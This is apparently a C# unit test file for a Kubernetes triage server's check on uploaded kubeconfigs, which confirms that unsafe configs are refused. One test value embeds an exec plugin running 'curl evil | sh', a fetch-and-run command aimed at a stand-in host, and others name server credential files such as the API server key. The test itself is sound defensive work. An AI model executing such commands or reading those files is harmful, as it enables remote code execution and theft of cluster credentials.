using System.Text;
using KubeTriage.Server.Chat;

namespace KubeTriage.Server.Tests.Chat;

public sealed class UploadedKubeconfigTests
{
    private const string Inline = """
        apiVersion: v1
        kind: Config
        current-context: prod
        clusters:
        - name: prod
          cluster:
            server: https://10.0.0.1:6443
            certificate-authority-data: LS0tLS1CRUdJTg==
        users:
        - name: sre
          user:
            token: abc.def.ghi
        contexts:
        - name: prod
          context: {cluster: prod, user: sre, namespace: shop}
        """;

    [Fact]
    public void Decode_InlineCredentials_IsAcceptedWithTheContextNamespace()
    {
        var (kubeconfig, error) = UploadedKubeconfig.Decode(Base64(Inline));

        Assert.Null(error);
        Assert.Equal("shop", kubeconfig!.Namespace);
    }

    [Theory]
    [InlineData("token: abc.def.ghi", "exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n      interactiveMode: Never", "exec or auth-provider")]
    [InlineData("token: abc.def.ghi", "tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token", "names files")]
    [InlineData("token: abc.def.ghi", "client-key: /etc/kubernetes/pki/apiserver.key", "names files")]
    [InlineData("certificate-authority-data: LS0tLS1CRUdJTg==", "certificate-authority: /etc/kubernetes/pki/ca.crt", "certificate file")]
    public void Decode_KubeconfigThatReachesIntoTheServer_IsRefused(string replaced, string replacement, string reason)
    {
        var (kubeconfig, error) = UploadedKubeconfig.Decode(Base64(Inline.Replace(replaced, replacement, StringComparison.Ordinal)));

        Assert.Null(kubeconfig);
        Assert.Contains(reason, error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("not base64!!", "not valid base64")]
    [InlineData("a2luZDogWw==", "not a valid kubeconfig")]
    public void Decode_Garbage_SaysWhatIsWrong(string base64, string reason)
    {
        var (_, error) = UploadedKubeconfig.Decode(base64);

        Assert.Contains(reason, error, StringComparison.Ordinal);
    }

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
}
